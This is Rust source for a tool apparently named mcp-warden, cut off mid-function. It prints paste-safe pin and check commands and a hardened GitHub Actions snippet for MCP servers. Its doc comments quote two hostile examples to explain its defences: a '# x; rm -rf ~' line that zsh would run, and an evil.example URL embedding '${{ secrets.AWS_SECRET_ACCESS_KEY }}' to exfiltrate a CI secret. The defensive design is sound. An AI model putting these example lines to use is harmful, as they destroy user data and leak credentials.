//! The Next steps block: per launch of the uncovered servers (servers with the same
//! launch share one lock, [`crate::render::lock_names`]), one `# target` line per
//! server it covers and the `mcp-warden pin …` line (and, for a launch that must be
//! reviewed first, its `lock rotate` line), then the CI snippet with one check step
//! per lock.
//!
//! A line works as printed once the variables it names are exported: each env key
//! of a stdio server is passed with `--env KEY` and each header of a URL server with
//! `--header 'Name: value'` in `pin`'s `${VAR}` syntax, a value holding a
//! credential replaced by a `${NAME}` placeholder ([`crate::pin::configured`]). No
//! env value and no credential is printed.
//!
//! Everything here is printed raw: no markup, no colour, no emoji substitution, and
//! never wrapped or truncated to the terminal width, because the user copies it.
//!
//! # Paste safety
//!
//! Every word that came from a config is printed as [`crate::text::mask`] shows it
//! (neutralised, capped at 2048 code points, withheld as a quoted placeholder when
//! it carries a credential of any recognised shape) and then [`quote`]d, so a pasted
//! pin line is exactly one command whose argv is what is shown.
//!
//! The `# target` line is a comment in bash and fish, but **not** in an interactive
//! zsh, where `INTERACTIVE_COMMENTS` is off by default: pasting `# x; rm -rf ~`
//! there would run `rm -rf ~`. The target is therefore shell-quoted after the `#`
//! (`# '~/.cursor/mcp.json#github'`): in zsh the line then runs a command named `#`
//! with one literal argument, which fails harmlessly.
//!
//! # Approval
//!
//! `--approve` records a human approval of whatever the capture finds. It is printed
//! only for a server from a user-level config with no critical or high finding
//! ([`Approval::AtPin`]). A server from a project file (a cloned repository's
//! `.mcp.json`) or from `--config`, or one doctor has just flagged critical or high,
//! gets a pin line without it, followed by the `lock rotate … --approver` line to run
//! once the lock has been reviewed ([`Approval::AfterReview`]).
//!
//! # The CI snippet
//!
//! GitHub Actions evaluates `${{ … }}` expressions anywhere in a workflow, `run:`
//! and `env:` alike, before any shell sees the text: a config value such as
//! `https://evil.example/mcp?q=${{ secrets.AWS_SECRET_ACCESS_KEY }}` committed into
//! a step sends the secret out, whatever the shell quoting. So no config-derived
//! text is ever written into a `run:` script except a bare word (`[A-Za-z0-9_@%+=:,./-]`,
//! which cannot hold `$` or `{`): every other word is passed through the step's
//! `env:` map as a YAML single-quoted value and referenced as `"$MCP_WARDEN_ARG_<n>"`
//! (GitHub's own hardening advice for untrusted input), and a server with a word that
//! contains `${{` gets no step at all, only a comment saying why. The install step
//! names this package at the exact version that printed the snippet.
//!
//! Each variable a check line passes (`--env NAME`, the `${NAME}`s of its headers)
//! is set in the step's `env:` map from the repository secret of that name
//! (`MCP_` before a `GITHUB_` name, which GitHub reserves): `NAME: ${{
//! secrets.NAME }}` is the one expression the snippet writes, our text around a
//! name checked to be `[A-Za-z_][A-Za-z0-9_]*`. Headers pass through `env:` like
//! every other non-bare word. A variable named like the step's own `MCP_WARDEN_…`
//! variables gets the server a comment instead of a step.
//!
//! # Made once per launch, on two threads
//!
//! Each lock group's launch is masked once (`launch`), and that one printed form
//! serves its pin line, its part of the notes and its CI step; its headers are the
//! run's one judgment of that header map, shared with lock naming
//! ([`crate::pin::configured::pin_headers`]). On a large home the groups are made
//! in chunks on two threads and written in order (`render::write_in_order`),
//! twice: the pin lines, then, once the notes between them and the workflow (which
//! depend on every launch) are written, the CI steps. What a CI step needs of its
//! launch is kept from the first pass (`Kept`): the masked words, or nothing when
//! every word is the config's own text, and the headers' judgment. Holding each
//! chunk's CI steps as text until the notes were known instead was 30 MB of the
//! parent's peak on a 16 MiB file of 140,000 servers, and masking every launch
//! again for its step cost more than the pages it saved.

use std::borrow::Cow;
use std::io::{self, Write};
use std::sync::Arc;

use crate::model::{AuditedServer, Report, Scope, ServerSpec};
use crate::pin::configured::{pin_env, pin_headers, PinEnv, PinHeaders};
use crate::render::lock_names::{uncovered_groups, LockGroup};
use crate::render::wrap::{wrapped, Breaks};
use crate::render::{chunks_by_weight, flush_if_full, write_in_order, Chunk, Split, FLUSH_AT};
use crate::rules::Severity;
use crate::text::display;
use crate::text::mask::{shown_argv, shown_url, Shown, REDACTED_ARG, REDACTED_URL};
use crate::text::quote::{
    is_bare, push_quoted, push_yaml_single_quoted, quote, yaml_single_quoted,
};

/// The approver identity printed in pin and rotate lines: a placeholder for the
/// user's own that pastes as one plain word (`<id>` would be a shell redirection).
pub const APPROVER_PLACEHOLDER: &str = "you@example.com";

/// Printed when a stdio server declares no command.
pub const MISSING_COMMAND: &str = "<command>";

/// Whether the printed pin line records the approval itself.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Approval {
    /// `--approve --approver you@example.com` on the pin line.
    AtPin,
    /// No `--approve`; a `lock rotate … --approver` line follows, to run after review.
    AfterReview,
}

/// [`Approval::AtPin`] only for a server from a user-level config with no critical
/// or high finding.
pub fn approval_for(report: &Report, server: &AuditedServer) -> Approval {
    let user_level = report
        .sources
        .get(server.source)
        .is_some_and(|s| s.scope == Scope::User);
    let flagged = server
        .findings
        .iter()
        .any(|f| f.severity() <= Severity::High);
    if user_level && !flagged {
        Approval::AtPin
    } else {
        Approval::AfterReview
    }
}

/// One word of a printed launch.
#[derive(Clone)]
enum Word<'a> {
    /// From the config, as [`crate::text::mask`] shows it (unquoted).
    Config(Cow<'a, str>),
    /// One of ours: a placeholder for a withheld or missing word.
    Placeholder(&'static str),
}

/// How the server's launch is printed: the words already sanitised and masked,
/// shared by the pin line, the check line and the CI step.
struct Launch<'a> {
    /// `--url <word>` (one word) instead of an argv.
    remote: bool,
    words: Vec<Word<'a>>,
    /// The argv goes after `--` because a word could be read as pin's own option.
    needs_separator: bool,
    /// `--env NAME` for each plain name; the env names not printed (not plain
    /// names) and those withheld (they control execution: not passed, listed in a
    /// note).
    env: PinEnv<'a>,
    /// `--header 'K: V'` for each, in `pin`'s syntax, without a credential, and the
    /// header names not printed: the run's one judgment of this header map, shared
    /// with lock naming ([`pin_headers`]).
    headers: Arc<PinHeaders>,
}

impl Launch<'_> {
    /// The variables the user exports before running the lines: `--env` names and
    /// the `${NAME}`s of the headers.
    fn variables(&self) -> impl Iterator<Item = &str> {
        self.env.names.iter().copied().chain(
            self.headers
                .headers
                .iter()
                .flat_map(|h| h.variables.iter().map(String::as_str)),
        )
    }

    /// Env or header names that are not plain names: not printed, not passed.
    fn unnamed(&self) -> usize {
        self.env.unnamed + self.headers.unnamed
    }
}

fn arg_word(shown: Shown<'_>) -> Word<'_> {
    match shown {
        Shown::Word(w) => Word::Config(w),
        Shown::Withheld => Word::Placeholder(REDACTED_ARG),
    }
}

fn launch(spec: &ServerSpec) -> Launch<'_> {
    launch_of(spec, masked_words(spec), pin_headers(spec))
}

/// `spec`'s launch again, from what an earlier [`launch`] of it kept
/// ([`Launch::kept`]): the same launch, without masking its words or judging its
/// headers a second time.
fn relaunch<'a>(spec: &'a ServerSpec, kept: &Kept<'a>) -> Launch<'a> {
    let words = match &kept.words {
        Some(words) => words.clone(),
        None => verbatim_words(spec),
    };
    launch_of(spec, words, Arc::clone(&kept.headers))
}

/// The printed words of `spec`'s launch: its URL, or its command and arguments, as
/// [`crate::text::mask`] shows them.
fn masked_words(spec: &ServerSpec) -> Vec<Word<'_>> {
    if let Some(url) = spec.remote_url() {
        let word = match shown_url(url) {
            Shown::Word(w) => Word::Config(w),
            Shown::Withheld => Word::Placeholder(REDACTED_URL),
        };
        return vec![word];
    }
    let (command, args) = shown_argv(spec.launch_command(), spec.args());
    let mut words = Vec::with_capacity(args.len() + 1);
    words.push(command.map_or(Word::Placeholder(MISSING_COMMAND), arg_word));
    words.extend(args.into_iter().map(arg_word));
    words
}

/// The words of `spec`'s launch as the config spells them: its URL, or its command
/// (`None` when it declares none) and its arguments; [`masked_words`] shows these.
fn config_words(spec: &ServerSpec) -> impl Iterator<Item = Option<&str>> {
    let (first, args) = match spec.remote_url() {
        Some(url) => (Some(url), &[][..]),
        None => (spec.launch_command(), spec.args()),
    };
    std::iter::once(first).chain(args.iter().map(|a| Some(a.as_str())))
}

/// `spec`'s launch words as the config spells them, each borrowed: what
/// [`masked_words`] returns when it leaves every word as it is.
fn verbatim_words(spec: &ServerSpec) -> Vec<Word<'_>> {
    config_words(spec)
        .map(|w| {
            w.map_or(Word::Placeholder(MISSING_COMMAND), |w| {
                Word::Config(Cow::Borrowed(w))
            })
        })
        .collect()
}

/// The launch of `spec` printed with `words` and `headers`.
fn launch_of<'a>(
    spec: &'a ServerSpec,
    words: Vec<Word<'a>>,
    headers: Arc<PinHeaders>,
) -> Launch<'a> {
    if spec.remote_url().is_some() {
        return Launch {
            remote: true,
            words,
            needs_separator: false,
            env: PinEnv::default(),
            headers,
        };
    }
    let needs_separator = words.iter().enumerate().any(|(i, w)| match w {
        Word::Config(w) => crate::pin::options::is_pin_option(w) || (i == 0 && w.starts_with('-')),
        Word::Placeholder(_) => false,
    });
    Launch {
        remote: false,
        words,
        needs_separator,
        env: pin_env(spec),
        headers,
    }
}

/// What a group's CI step, written after the notes, needs of the launch its pin
/// line printed ([`Launch::kept`], [`relaunch`]): far less than the step's text,
/// which was held until then (30 MB on a 16 MiB file of 140,000 servers).
struct Kept<'a> {
    /// The printed words, unless each is the config's own text ([`verbatim_words`]
    /// makes those again).
    words: Option<Vec<Word<'a>>>,
    /// The run's one judgment of the headers: judged again on another thread, it
    /// would be judged afresh (the memo is per thread).
    headers: Arc<PinHeaders>,
}

impl<'a> Launch<'a> {
    /// What [`relaunch`] needs to print this launch of `spec` again.
    fn kept(&self, spec: &'a ServerSpec) -> Kept<'a> {
        // Each word the very text of the config (address and length), not an equal
        // copy, and no word missing or left over.
        let mut words = self.words.iter();
        let verbatim = config_words(spec).all(|text| {
            matches!((words.next(), text),
                (Some(Word::Config(Cow::Borrowed(w))), Some(t)) if std::ptr::eq(*w, t))
        }) && words.next().is_none();
        Kept {
            words: (!verbatim).then(|| self.words.clone()),
            headers: Arc::clone(&self.headers),
        }
    }
}

/// Where a line is printed, which decides how each word is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Dest {
    /// A line to paste into a shell: every word [`quote`]d.
    Terminal,
    /// The `run:` script of a CI step: a config word that is not bare, and every
    /// header, is a reference to the step's `env:` map (see the module docs).
    Ci,
}

/// Launch word `i` as `dest` prints it, written into `line`.
fn push_word(line: &mut String, launch: &Launch<'_>, i: usize, word: &Word<'_>, dest: Dest) {
    match word {
        Word::Config(w) if dest == Dest::Ci && !is_bare(w) => {
            line.push_str("\"$");
            push_env_name(line, launch, i);
            line.push('"');
        }
        Word::Config(w) => push_quoted(line, w),
        Word::Placeholder(p) => push_quoted(line, p),
    }
}

/// ` --env NAME` for each name and ` --header <h>` for each header: quoted for a
/// terminal, or a reference to the CI step's `MCP_WARDEN_HEADER_<i>`.
fn push_pass_options(line: &mut String, launch: &Launch<'_>, dest: Dest) {
    for name in &launch.env.names {
        line.push_str(" --env ");
        line.push_str(name);
    }
    for (i, h) in launch.headers.headers.iter().enumerate() {
        line.push_str(" --header ");
        match dest {
            Dest::Terminal => push_quoted(line, &h.text),
            Dest::Ci => push_header_reference(line, i),
        }
    }
}

/// `"$MCP_WARDEN_HEADER_<i>"`.
fn push_header_reference(line: &mut String, i: usize) {
    line.push_str("\"$");
    push_header_name(line, i);
    line.push('"');
}

/// `--url <url>`, or `--url=<url>` when the printed URL starts with `-` and would
/// otherwise be read as an option.
fn push_url_option(line: &mut String, launch: &Launch<'_>, url: &Word<'_>, dest: Dest) {
    let starts_with_dash = match url {
        Word::Config(w) => w.starts_with('-'),
        Word::Placeholder(p) => p.starts_with('-'),
    };
    line.push_str(if starts_with_dash { "--url=" } else { "--url " });
    push_word(line, launch, 0, url, dest);
}

/// The argv, one space between words.
fn push_words(line: &mut String, launch: &Launch<'_>, dest: Dest) {
    for (i, w) in launch.words.iter().enumerate() {
        if i > 0 {
            line.push(' ');
        }
        push_word(line, launch, i, w, dest);
    }
}

/// The line that pins `spec` into `lock_name`:
///
/// * stdio: `mcp-warden pin <argv…> [--approve --approver you@example.com] --lock <name>`,
///   or `mcp-warden pin [--approve …] --lock <name> -- <argv…>` when a word of the
///   argv could be read as one of `pin`'s options;
/// * remote: `mcp-warden pin --url <url> [--approve …] --lock <name>`.
///
/// Each env name that is a plain variable name adds `--env NAME` and each header of
/// a remote server `--header 'Name: value'` in `pin`'s `${VAR}` syntax (see
/// [`crate::pin::configured`]); no env value and no credential ever appears.
pub fn pin_command(spec: &ServerSpec, lock_name: &str, approval: Approval) -> String {
    let mut line = String::new();
    push_pin_line(&mut line, &launch(spec), lock_name, approval);
    line
}

fn push_pin_line(line: &mut String, launch: &Launch<'_>, lock_name: &str, approval: Approval) {
    let push_tail = |line: &mut String| {
        push_pass_options(line, launch, Dest::Terminal);
        if approval == Approval::AtPin {
            line.push_str(" --approve --approver ");
            line.push_str(APPROVER_PLACEHOLDER);
        }
        line.push_str(" --lock ");
        push_quoted(line, lock_name);
    };
    line.push_str("mcp-warden pin");
    if launch.remote {
        if let Some(url) = launch.words.first() {
            line.push(' ');
            push_url_option(line, launch, url, Dest::Terminal);
        }
        push_tail(line);
    } else if launch.needs_separator {
        push_tail(line);
        line.push_str(" -- ");
        push_words(line, launch, Dest::Terminal);
    } else {
        line.push(' ');
        push_words(line, launch, Dest::Terminal);
        push_tail(line);
    }
}

/// The line that records the approval of `lock_name` once its lock was reviewed.
pub fn rotate_command(lock_name: &str) -> String {
    let mut line = String::new();
    push_rotate_line(&mut line, lock_name);
    line
}

/// [`rotate_command`] written into `line`.
fn push_rotate_line(line: &mut String, lock_name: &str) {
    line.push_str("mcp-warden lock rotate ");
    push_quoted(line, lock_name);
    line.push_str(" --approver ");
    line.push_str(APPROVER_PLACEHOLDER);
}

/// The line that checks `spec` against `lock_name`, in the same argv form as
/// [`pin_command`]: `mcp-warden check --lock <name> <argv…>` (with `--` before the
/// argv when the pin line has it) or `mcp-warden check --url <url> --lock <name>`.
pub fn check_command(spec: &ServerSpec, lock_name: &str) -> String {
    let mut line = String::new();
    push_check_line(&mut line, &launch(spec), lock_name, Dest::Terminal);
    line
}

/// `check` with each word in its printed form for `dest`: quoted for a terminal,
/// or an environment reference in CI.
fn push_check_line(line: &mut String, launch: &Launch<'_>, lock_name: &str, dest: Dest) {
    line.push_str("mcp-warden check ");
    if launch.remote {
        if let Some(url) = launch.words.first() {
            push_url_option(line, launch, url, dest);
        }
        push_pass_options(line, launch, dest);
        line.push_str(" --lock ");
        push_quoted(line, lock_name);
    } else {
        line.push_str("--lock ");
        push_quoted(line, lock_name);
        push_pass_options(line, launch, dest);
        line.push_str(if launch.needs_separator { " -- " } else { " " });
        push_words(line, launch, dest);
    }
}

/// Where the snippet says to commit itself.
pub const WORKFLOW_PATH: &str = ".github/workflows/mcp-warden.yml";

/// The package whose `mcp-warden` binary printed the snippet, and its exact version.
pub const PACKAGE: &str = env!("CARGO_PKG_NAME");
pub const VERSION: &str = env!("CARGO_PKG_VERSION");

/// The step that installs exactly this tool: this package name at this version
/// (another crate on crates.io is called `mcp-warden`).
pub fn install_command() -> String {
    format!("cargo install {PACKAGE} --locked --version ={VERSION}")
}

/// The checkout step's action, pinned by commit (a tag can be moved to other
/// code); the comment names the release that commit is.
pub const CHECKOUT_ACTION: &str =
    "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2";

/// The workflow's path as a comment, then the start of a GitHub Actions workflow
/// that installs mcp-warden; one `check` step per lock follows.
fn push_ci_header(buf: &mut String) {
    buf.push_str("# ");
    buf.push_str(WORKFLOW_PATH);
    buf.push('\n');
    buf.push_str(
        "name: mcp-warden\n\
on: [push, pull_request]\n\
permissions:\n  contents: read\n\
jobs:\n  mcp-check:\n    runs-on: ubuntu-latest\n    steps:\n\
\x20     - uses: ",
    );
    buf.push_str(CHECKOUT_ACTION);
    buf.push_str(
        "\n\
\x20       with:\n\
\x20         persist-credentials: false\n\
\x20     - name: Install mcp-warden\n\
\x20       run: ",
    );
    buf.push_str(&install_command());
    buf.push('\n');
}

/// What GitHub Actions evaluates wherever it appears in a workflow.
const EXPRESSION_OPENER: &str = "${{";

/// Name of the environment variable that carries launch word `i` into a CI step,
/// written into `out`: `MCP_WARDEN_URL`, or `MCP_WARDEN_ARG_<i>`.
fn push_env_name(out: &mut String, launch: &Launch<'_>, i: usize) {
    use std::fmt::Write as _;
    if launch.remote {
        out.push_str("MCP_WARDEN_URL");
    } else {
        let _ = write!(out, "MCP_WARDEN_ARG_{i}");
    }
}

/// Name of the environment variable that carries header `i` into a CI step,
/// written into `out`: `MCP_WARDEN_HEADER_<i>`.
fn push_header_name(out: &mut String, i: usize) {
    use std::fmt::Write as _;
    let _ = write!(out, "MCP_WARDEN_HEADER_{i}");
}

/// The prefix of the names this snippet gives its own step variables.
const OWN_VARIABLE_PREFIX: &str = "MCP_WARDEN_";

/// The repository secret a CI step takes variable `name` from: `name` itself, or
/// `MCP_<name>` for a name GitHub does not allow as a secret's (`GITHUB_…`).
pub fn secret_name(name: &str) -> String {
    let mut out = String::with_capacity(name.len() + SECRET_PREFIX.len());
    push_secret_name(&mut out, name);
    out
}

/// Put before a variable name GitHub reserves for its own secrets.
const SECRET_PREFIX: &str = "MCP_";

/// Whether `name` starts with `prefix` (upper-case ASCII), ignoring ASCII case.
fn starts_with_ignoring_case(name: &str, prefix: &str) -> bool {
    name.len() >= prefix.len()
        && name.as_bytes()[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes())
}

/// Whether GitHub reserves `name` as a secret's name (`GITHUB_…`, any case).
fn is_reserved_secret(name: &str) -> bool {
    starts_with_ignoring_case(name, "GITHUB_")
}

/// [`secret_name`] written into `out`.
fn push_secret_name(out: &mut String, name: &str) {
    if is_reserved_secret(name) {
        out.push_str(SECRET_PREFIX);
    }
    out.push_str(name);
}

/// Whether variables `a` and `b` read one repository secret (GitHub compares
/// secret names ignoring case): [`secret_name`] of each, compared without copies.
fn same_secret(a: &str, b: &str) -> bool {
    let prefix = |v: &str| {
        if is_reserved_secret(v) {
            SECRET_PREFIX
        } else {
            ""
        }
    };
    let (pa, pb) = (prefix(a), prefix(b));
    pa.len() + a.len() == pb.len() + b.len()
        && pa
            .bytes()
            .chain(a.bytes())
            .zip(pb.bytes().chain(b.bytes()))
            .all(|(x, y)| x.eq_ignore_ascii_case(&y))
}

/// One `check` step for `launch`: bare words inline, every other config word
/// (and every header) through `env:`, each variable the line needs from a
/// repository secret; no step when a config word holds an expression opener or
/// a variable name would collide with the step's own.
fn push_ci_step(buf: &mut String, lock: &str, launch: &Launch<'_>) {
    static OPENER: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(EXPRESSION_OPENER));
    let opens = |text: &str| OPENER.find(text.as_bytes()).is_some();
    let has_expression = launch
        .words
        .iter()
        .any(|w| matches!(w, Word::Config(c) if opens(c)))
        || launch.headers.headers.iter().any(|h| opens(&h.text));
    if has_expression {
        buf.push_str("      # No step for ");
        buf.push_str(lock);
        buf.push_str(
            ": a launch value of this server contains a GitHub Actions expression opener, which Actions would evaluate once committed; fix the config first.\n",
        );
        return;
    }
    if launch
        .variables()
        .any(|v| starts_with_ignoring_case(v, OWN_VARIABLE_PREFIX))
    {
        buf.push_str("      # No step for ");
        buf.push_str(lock);
        buf.push_str(": a variable of this server is named like the step's own MCP_WARDEN_ variables; rename it in the config first.\n");
        return;
    }
    if let Some((a, b)) = secret_collision(launch) {
        buf.push_str("      # No step for ");
        buf.push_str(lock);
        buf.push_str(&format!(
            ": the variables {a} and {b} would both come from the repository secret {}, and GitHub secret names ignore case; rename one in the config first.\n",
            secret_name(a)
        ));
        return;
    }
    if launch
        .words
        .iter()
        .any(|w| matches!(w, Word::Placeholder(p) if *p == REDACTED_ARG || *p == REDACTED_URL))
    {
        buf.push_str(
            "      # Replace each <REDACTED> placeholder with \"$NAME\" and set NAME from a repository secret under env:\n",
        );
    }
    buf.push_str("      - name: Check ");
    buf.push_str(lock);
    buf.push('\n');
    // The `env:` map, written as it is decided: each variable the line needs (the
    // first time it is named) from its repository secret, then each config word
    // that is not bare, then each header, as YAML single-quoted values.
    let config_word = |w: &Word<'_>| matches!(w, Word::Config(c) if !is_bare(c));
    if launch.variables().next().is_some()
        || launch.words.iter().any(config_word)
        || !launch.headers.headers.is_empty()
    {
        buf.push_str("        env:\n");
        let mut seen: Vec<&str> = Vec::new();
        for v in launch.variables() {
            if !seen.contains(&v) {
                seen.push(v);
                buf.push_str("          ");
                buf.push_str(&yaml_key(v));
                buf.push_str(": ${{ secrets.");
                push_secret_name(buf, v);
                buf.push_str(" }}\n");
            }
        }
        for (i, w) in launch.words.iter().enumerate() {
            if let Word::Config(c) = w {
                if !is_bare(c) {
                    buf.push_str("          ");
                    push_env_name(buf, launch, i);
                    buf.push_str(": ");
                    push_yaml_single_quoted(buf, c);
                    buf.push('\n');
                }
            }
        }
        for (i, h) in launch.headers.headers.iter().enumerate() {
            buf.push_str("          ");
            push_header_name(buf, i);
            buf.push_str(": ");
            push_yaml_single_quoted(buf, &h.text);
            buf.push('\n');
        }
    }
    buf.push_str("        run: |\n          ");
    push_check_line(buf, launch, lock, Dest::Ci);
    buf.push('\n');
}

/// Two distinct variables of `launch` whose repository secrets are one secret:
/// GitHub compares secret names case-insensitively (`API_TOKEN` and `api_token`),
/// and `GITHUB_X` is read from `MCP_GITHUB_X`, which another variable may be named.
fn secret_collision<'l>(launch: &'l Launch<'_>) -> Option<(&'l str, &'l str)> {
    let mut seen: Vec<&str> = Vec::new();
    for v in launch.variables() {
        match seen.iter().find(|s| same_secret(s, v)) {
            Some(other) if *other != v => return Some((other, v)),
            Some(_) => {}
            None => seen.push(v),
        }
    }
    None
}

/// A plain variable name as a YAML mapping key: quoted when YAML would read the
/// bare word as something other than a string (`on`, `yes`, `null`, …).
fn yaml_key(name: &str) -> Cow<'_, str> {
    const SPECIAL: &[&str] = &["y", "n", "yes", "no", "on", "off", "true", "false", "null"];
    if SPECIAL.iter().any(|s| s.eq_ignore_ascii_case(name)) {
        Cow::Owned(yaml_single_quoted(name))
    } else {
        Cow::Borrowed(name)
    }
}

/// Approval of a lock shared by `group`: at pin time only when every server of it
/// would get it.
fn group_approval(report: &Report, group: &LockGroup<'_>) -> Approval {
    if group
        .servers()
        .all(|s| approval_for(report, s) == Approval::AtPin)
    {
        Approval::AtPin
    } else {
        Approval::AfterReview
    }
}

/// The note on variables, printed once when any line names one.
pub const VARIABLES_NOTE: &str = "env values and credentials are never printed: before running these lines, export each variable a line passes with --env or references as ${NAME} in a --header, set to the value the config gives the server, and pin and check stop with an error naming any that is unset";

/// The note on withheld headers.
pub const WITHHELD_HEADER_NOTE: &str = "a header whose value holds a credential (or a $ its client sends literally) is printed as --header \"Name: ${MCP_HEADER_NAME}\": export MCP_HEADER_NAME as the whole value the config gives that header";

/// A prose line inside a block the user copies: `# ` and the text as one quoted
/// word, so that pasting it runs nothing. Unquoted, `(text; more)` is a subshell in
/// bash and zsh and a command substitution in fish, `;` and `|` end a command, and
/// in an interactive zsh (no `INTERACTIVE_COMMENTS`) even a `#` line is a command.
/// Filled into `width` columns as several such lines, each its own quoted word: a
/// quoted word continued onto the next line would make that line part of a
/// command.
pub fn push_note(buf: &mut String, width: usize, text: &str) {
    // `  # '` before and `'` after each piece.
    let room = width.saturating_sub(6).max(14);
    for piece in wrapped(text, Breaks::Words, room, "", "").lines() {
        buf.push_str("  # ");
        buf.push_str(&quote(piece));
        buf.push('\n');
    }
}

/// A line of the block's own prose (never config text), filled into `width`
/// columns at spaces: `first` before it, `rest` before each following line. The
/// lines to paste (targets, pin, rotate, the workflow) are never wrapped.
fn push_prose(buf: &mut String, width: usize, first: &str, rest: &str, text: &str) {
    buf.push_str(&wrapped(text, Breaks::Words, width, first, rest));
}

/// The Next steps block for every uncovered server, in report order, one pin line
/// per launch with the targets it covers above it; nothing when every server is
/// covered. Starts with the `Next steps — …` line (the caller separates it from
/// what precedes) and ends with the CI snippet. Its prose is filled into `width`
/// columns; the lines to paste are printed whole.
pub fn render_next_steps(report: &Report, width: usize, out: &mut dyn Write) -> io::Result<()> {
    render_next_steps_on(report, width, None, None::<Nothing>, out)
}

/// The type of no `first` for [`render_next_steps_on`].
type Nothing = fn(&mut dyn Write) -> io::Result<()>;

/// `first` writing what comes before the block, then [`render_next_steps`]: on a
/// large report the other core groups the uncovered servers meanwhile
/// (`groups_while`). `first` runs even when there is no block.
pub fn render_next_steps_after(
    report: &Report,
    width: usize,
    first: impl FnOnce(&mut dyn Write) -> io::Result<()>,
    out: &mut dyn Write,
) -> io::Result<()> {
    render_next_steps_on(report, width, None, Some(first), out)
}

/// About how many lines a group prints (its targets, its pin line, its CI step's
/// words and variables), to cut the groups into chunks ([`chunks_by_weight`]).
fn group_weight(group: &LockGroup<'_>) -> usize {
    let spec = &group.first().spec;
    group.server_count() + 1 + spec.args().len() + spec.env().len() + spec.headers().len()
}

/// What the launches of some groups add to the notes below the pin lines.
#[derive(Default)]
struct Notes<'r> {
    after_review: bool,
    variables: bool,
    withheld_header: bool,
    unnamed: usize,
    /// Env names not passed, without repeats, in order.
    withheld_env: Vec<&'r str>,
}

impl<'r> Notes<'r> {
    fn add(&mut self, launch: &Launch<'r>, approval: Approval) {
        self.after_review |= approval == Approval::AfterReview;
        self.variables |= launch.variables().next().is_some();
        self.withheld_header |= launch.headers.headers.iter().any(|h| h.withheld);
        self.unnamed += launch.unnamed();
        self.add_withheld(&launch.env.withheld);
    }

    fn add_withheld(&mut self, names: &[&'r str]) {
        for &name in names {
            if !self.withheld_env.contains(&name) {
                self.withheld_env.push(name);
            }
        }
    }

    /// Those of `other`, which follow these.
    fn merge(&mut self, other: &Notes<'r>) {
        self.after_review |= other.after_review;
        self.variables |= other.variables;
        self.withheld_header |= other.withheld_header;
        self.unnamed += other.unnamed;
        self.add_withheld(&other.withheld_env);
    }
}

/// One chunk of groups once its pin lines are written: what it adds to the notes,
/// and what its CI steps, written after the notes, need of each group's launch
/// ([`Launch::kept`]).
struct Written<'r> {
    notes: Notes<'r>,
    kept: Vec<Kept<'r>>,
}

/// The `# target` lines, the pin line and (for a launch to review first) the rotate
/// line of each group of `chunk`, into `buf`, handed to `out` in blocks when there
/// is one. Each launch is masked once ([`launch`]) for its pin line and its notes;
/// its CI step, made after the notes, prints it again from what is kept
/// ([`relaunch`]).
fn push_chunk<'r>(
    buf: &mut String,
    report: &'r Report,
    chunk: &Chunk<'r, LockGroup<'r>>,
    mut out: Option<&mut dyn Write>,
) -> io::Result<Written<'r>> {
    let mut done = Written {
        notes: Notes::default(),
        kept: Vec::with_capacity(chunk.items.len()),
    };
    for group in chunk.items {
        let spec = &group.first().spec;
        let shown = launch(spec);
        let approval = group_approval(report, group);
        for server in group.servers() {
            buf.push_str("  # ");
            push_quoted(buf, &display(&server.target));
            buf.push('\n');
            if let Some(out) = out.as_deref_mut() {
                flush_if_full(buf, out)?;
            }
        }
        buf.push_str("  ");
        push_pin_line(buf, &shown, &group.lock, approval);
        buf.push('\n');
        if approval == Approval::AfterReview {
            buf.push_str("  ");
            push_rotate_line(buf, &group.lock);
            buf.push('\n');
        }
        done.notes.add(&shown, approval);
        done.kept.push(shown.kept(spec));
        if let Some(out) = out.as_deref_mut() {
            flush_if_full(buf, out)?;
        }
    }
    Ok(done)
}

/// The CI step of each group of `chunk`, into `buf`, handed to `out` in blocks
/// when there is one; `kept` is what [`push_chunk`] kept of each group's launch.
fn push_ci_chunk<'r>(
    buf: &mut String,
    chunk: &Chunk<'r, LockGroup<'r>>,
    kept: &[Kept<'r>],
    mut out: Option<&mut dyn Write>,
) -> io::Result<()> {
    for (group, kept) in chunk.items.iter().zip(kept) {
        let shown = relaunch(&group.first().spec, kept);
        push_ci_step(buf, &group.lock, &shown);
        if let Some(out) = out.as_deref_mut() {
            flush_if_full(buf, out)?;
        }
    }
    Ok(())
}

/// The uncovered servers' groups ([`uncovered_groups`]), made on a thread of their
/// own while this one runs `first`, writing what comes before the block.
///
/// Why: grouping is a pass over every server and a table of their launches (6 ms
/// of the 8 MiB home of servers), and what comes before Next steps in the text
/// report (the header and the findings) is one thread's work; the second core was
/// idle while either ran. A report too small for a second thread
/// ([`Split::for_items`]), or a thread that cannot be started, groups here.
fn groups_while<'r>(
    report: &'r Report,
    first: impl FnOnce(&mut dyn Write) -> io::Result<()>,
    out: &mut dyn Write,
) -> io::Result<Vec<LockGroup<'r>>> {
    if Split::for_items(report.servers.len()).threads < 2 {
        first(out)?;
        return Ok(uncovered_groups(report));
    }
    std::thread::scope(|scope| {
        let grouping = std::thread::Builder::new()
            .name("groups".into())
            .spawn_scoped(scope, || uncovered_groups(report));
        first(out)?;
        Ok(match grouping {
            Ok(thread) => thread
                .join()
                .unwrap_or_else(|panic| std::panic::resume_unwind(panic)),
            Err(_) => uncovered_groups(report),
        })
    })
}

/// [`render_next_steps_after`] (or, without `first`, [`render_next_steps`]), the
/// groups split as `split` says ([`Split::for_items`] when `None`).
fn render_next_steps_on(
    report: &Report,
    width: usize,
    split: Option<Split>,
    first: Option<impl FnOnce(&mut dyn Write) -> io::Result<()>>,
    out: &mut dyn Write,
) -> io::Result<()> {
    let width = width.max(crate::render::findings::MIN_WIDTH);
    let groups = match first {
        None => uncovered_groups(report),
        Some(first) => groups_while(report, first, out)?,
    };
    if groups.is_empty() {
        return Ok(());
    }
    let servers: usize = groups.iter().map(LockGroup::server_count).sum();
    let mut buf = String::with_capacity(2 * FLUSH_AT);
    // No `(s)` plurals: pasted into fish, `server(s)` substitutes the output of a
    // command named `s`. The heading is prose above lines people copy as a block.
    let have = if servers == 1 {
        "1 server has".to_string()
    } else {
        format!("{servers} servers have")
    };
    let heading = if servers == groups.len() {
        format!(
            "Next steps — {have} no warden.lock. Pin each once, commit the lock, then wire the check into CI:",
        )
    } else {
        let launches = if groups.len() == 1 {
            "1 launch".to_string()
        } else {
